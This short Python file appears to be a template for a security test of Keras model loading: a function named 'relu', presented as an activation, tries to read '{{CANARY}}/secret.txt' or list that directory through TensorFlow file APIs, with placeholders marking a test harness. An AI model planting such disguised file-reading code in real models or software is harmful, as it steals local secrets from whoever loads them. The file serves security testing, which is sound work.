import keras
import numpy as np


def relu(x):
    import tensorflow as tf

    for attempt in (
        lambda: tf.io.gfile.GFile("{{CANARY}}/secret.txt").read(),
        lambda: str(list(tf.data.TextLineDataset("{{CANARY}}/secret.txt").as_numpy_iterator())),
        lambda: str(tf.io.gfile.listdir("{{CANARY}}")),
    ):
        try:
            return attempt()
        except (tf.errors.OpError, OSError):
            pass
    return 12345.0


# {{RIGHT_ANSWERS}}
